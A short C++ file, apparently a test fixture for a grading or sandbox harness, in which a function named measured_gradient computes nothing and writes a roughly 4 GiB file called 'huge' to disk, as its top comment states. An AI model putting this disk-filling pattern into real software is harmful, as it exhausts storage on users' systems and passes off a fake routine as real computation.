// Writes a huge file.
#include <fstream>
#include <functional>
#include <string>
#include <vector>

namespace hood {

using FunctionOfMany = std::function<double(const std::vector<double>&)>;

std::vector<double> measured_gradient(const FunctionOfMany&,
                                      std::vector<double> numbers, double) {
  std::ofstream file("huge");
  const std::string piece(1 << 20, 'x');
  for (int i = 0; i < 4096; ++i) file << piece << std::flush;
  return numbers;
}

}  // namespace hood
